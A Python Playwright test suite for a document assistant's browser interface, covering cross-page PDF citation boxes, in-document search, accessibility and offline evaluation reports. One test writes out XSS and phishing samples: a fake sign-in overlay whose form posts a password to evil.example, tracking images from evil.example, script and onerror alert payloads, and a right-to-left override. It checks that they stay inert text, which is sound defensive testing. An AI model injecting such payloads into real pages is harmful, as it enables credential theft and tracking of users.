"""Documents in a real browser: drawn pages, words found, nobody kept out, nothing hostile that comes to life."""

import re
from pathlib import Path
from typing import Literal

import pytest
from playwright.sync_api import Browser, Dialog, Locator, Page, expect

from assistant import Assistant, SentenceRanker
from eval import QuestionResult, figures
from index import Catalogue, Encoder, Home, Scope
from tests.browsing import Visitor, needs_browser, serious
from tests.inline import add
from tests.made import pdf, write
from tests.test_server import HOSTILE
from ui.cli.eval_report import report

pytestmark = needs_browser


def roads() -> bytes:
    """A PDF of eleven pages with a sentence that runs from page 9 to 10."""
    pages = [[f"Paragraph {line} of page {page} is about roads." for line in range(30)] for page in range(1, 12)]
    pages[8][29] = "The inspectors found forty trucks of mahogany in the north, and"
    pages[9][0] = "only nine of them were ever returned to their owners."
    return pdf(pages, header="Roads and forests", footer="{n}", labels=[(0, "ARABIC", 3)])


CITED = "The inspectors found forty trucks of mahogany in the north, and only nine of them were ever returned to their owners."


def boxes_of(page: Page | Locator) -> dict[str, float]:
    """For each page with a box, by the page's name, how much of its width the box takes."""
    drawn = page.locator(".paper:has(.box)")
    found: dict[str, float] = dict(
        drawn.evaluate_all(
            """papers => papers.flatMap(paper => [...paper.querySelectorAll(".box")].map(box =>
                [paper.querySelector("img").alt, box.getBoundingClientRect().width / paper.getBoundingClientRect().width]))"""
        )
    )
    return found


def test_a_quote_across_pages_of_a_pdf_is_boxed_on_both(
    browser: Browser, home: Home, encoder: Encoder, tmp_path: Path, address: str
) -> None:
    add(home, [write(tmp_path / "roads.pdf", roads())], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    visitor.ask("What did the inspectors find?")
    assert "p. 11 · PDF 9" in visitor.reply
    panel = visitor.open_source(1)
    expect(panel.locator(".box").first).to_be_in_viewport()
    shown = boxes_of(panel)
    assert list(shown) == ["Page 11 · PDF 9", "Page 12 · PDF 10"]
    assert all(0.5 < width < 0.85 for width in shown.values())
    expect(panel.locator("img")).to_have_count(2)
    for picture in panel.locator("img").all():
        expect(picture).to_have_js_property("naturalWidth", 1200)
    with context.expect_page() as opened:
        panel.get_by_role("link").click()
    document = opened.value
    expect(document.locator(".box").first).to_be_in_viewport()
    expect(document.locator("#cited")).to_be_focused()
    assert CITED in document.locator("#cited").inner_text()
    assert boxes_of(document) == pytest.approx(shown, abs=0.01)
    assert document.evaluate("scrollY") > 1000
    last = document.locator("#page-11 img")
    assert last.evaluate("image => image.complete && image.naturalWidth > 0") is False  # pages load as one scrolls
    last.scroll_into_view_if_needed()
    expect(last).to_have_js_property("naturalWidth", 1200)
    wide = document.locator("#page-11 .paper").evaluate("paper => paper.offsetWidth")
    document.get_by_role("button", name="Zoom in").click()
    assert document.locator("#page-11 .paper").evaluate("paper => paper.offsetWidth") > 1.2 * wide
    document.get_by_role("link", name="View as text").click()
    expect(document.locator("mark")).to_be_in_viewport()
    assert document.locator("mark").inner_text() == CITED
    assert visitor.stayed_here()
    assert visitor.errors == []
    context.close()


def test_words_are_found_in_a_document(visitor: Visitor) -> None:
    with visitor.page.context.expect_page() as opened:
        visitor.page.locator("#about a").first.click()
    page = opened.value
    page.get_by_role("searchbox", name="Find in this document").fill("PRÍSONS  ARE")
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_have_text("Matches: 1")
    page.get_by_role("link", name="Prisons are overcrowded, a major").click()
    expect(page.locator("mark")).to_be_in_viewport()
    assert page.locator("mark").inner_text() == "Prisons are"
    page.get_by_text("Outline").click()
    page.get_by_role("link", name="Corruption at the Highest Levels").click()
    expect(page.get_by_role("heading", name="Corruption at the Highest Levels")).to_be_in_viewport()


@pytest.mark.parametrize("visitor_of_home", ["light", "dark"], indirect=True)
def test_nothing_keeps_a_screen_reader_or_a_keyboard_out(
    visitor_of_home: Visitor, home: Home, encoder: Encoder, tmp_path: Path
) -> None:
    assert serious(visitor_of_home.page) == []
    visitor_of_home.ask("Why are investigations into corruption weak?")
    visitor_of_home.ask("Are prisons in Chile overcrowded?")
    visitor_of_home.page.locator("#chat a.cite").first.click()
    expect(visitor_of_home.page.locator("#source")).to_be_focused()
    assert serious(visitor_of_home.page) == []
    text = visitor_of_home.page.locator("#source").get_by_role("link").get_attribute("href")
    page = visitor_of_home.page.context.new_page()
    page.goto(visitor_of_home.address + str(text))
    assert serious(page) == []
    add(home, [write(tmp_path / "roads.pdf", roads())], encoder)
    (entry,) = Catalogue(home).active()
    for path in (f"/documents/{entry.id}?start=10&end=60", f"/documents/{entry.id}?view=text&find=roads", "/documents"):
        page.goto(visitor_of_home.address + path)
        assert serious(page) == [], path


def test_a_hostile_document_stays_text(browser: Browser, home: Home, encoder: Encoder, tmp_path: Path, address: str) -> None:
    overlay = '<div style="position:fixed;top:0">Sign in <form action="http://evil.example"><input name=password></form></div>'
    hostile = "<script>alert(1)</script> \u202edesrever"
    image = "![x](http://evil.example/track.png) <img src=http://evil.example/y.png onerror=alert(1)>"
    text = f"Hostile report\n\nThe secret of the mahogany is {overlay} {image} {hostile}, as they say.\n"
    text += f"\n{'endless' * 150_000}\n"
    add(home, [write(tmp_path / "hostile.txt", text), write(tmp_path / "hostile.md", HOSTILE)], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    alerts: list[str] = []

    def alerted(dialog: Dialog) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    visitor.page.on("dialog", alerted)
    visitor.ask("What is the secret of the mahogany?")
    assert '<div style="position:fixed;top:0">Sign in <form' in visitor.reply
    chat = visitor.page.locator("#chat")
    assert [chat.locator(f".bot {tag}").count() for tag in ("img", "form", "input", "script", "div[style*=fixed]")] == [0] * 5
    panel = visitor.open_source(1)
    assert [panel.locator(tag).count() for tag in ("img", "form", "input", "script", "[style]")] == [0] * 5
    assert "\u202e" not in panel.inner_text() + visitor.reply
    document = visitor.follow(1)
    document.on("dialog", alerted)
    assert "<script>alert(1)</script> desrever, as they say." in document.locator("mark").inner_text()
    assert alerts == []
    assert visitor.stayed_here()
    assert not re.search("evil", " ".join(visitor.requests))
    context.close()


@pytest.fixture(scope="module")
def measured(
    shipped_results: list[QuestionResult], shipped_home: Home, encoder: Encoder, ranker: SentenceRanker
) -> tuple[list[QuestionResult], Scope]:
    """The results of the questions about the shipped report, and the documents that they were asked of."""
    return shipped_results, Assistant(shipped_home, encoder, ranker).scope()


@pytest.mark.parametrize(("width", "scheme"), [(1200, "light"), (360, "dark")])
def test_the_report_of_an_evaluation_needs_nothing_but_itself(
    browser: Browser, measured: tuple[list[QuestionResult], Scope], tmp_path: Path, width: int, scheme: Literal["light", "dark"]
) -> None:
    rows, scope = measured
    wrong = [row for row in rows if not row.right]
    taken = {"median": 1.0, "p95": 2.0, "most": 3.0}
    meta = {"name": "report", "date": "2026-01-02", "questions": 66, "documents": 1, "model": "m", "milliseconds": taken}
    page = report(rows, figures(rows), None, meta, scope.document, "http://127.0.0.1:7860")
    file = write(tmp_path / "report.html", page)
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme, offline=True)
    requests: list[str] = []
    errors: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    shown = context.new_page()
    shown.on("console", lambda said: errors.append(said.text))
    shown.goto(file.as_uri())
    assert requests == [file.as_uri()]
    assert errors == []
    expect(shown.get_by_role("heading", name=f"{len(wrong)} questions went wrong")).to_be_visible()
    assert shown.locator("article").count() == len(wrong) > 1
    assert shown.get_by_role("img").count() == 3
    assert shown.locator(".headlines .figure").first.inner_text() == f"{100 * figures(rows)['all']['correct'].mean:.1f}%"
    place = shown.locator("details", has_text="In its place").first
    place.locator("summary").click()
    expect(place.locator("mark")).to_be_visible()
    assert shown.evaluate("document.documentElement.scrollWidth") == width
    context.close()
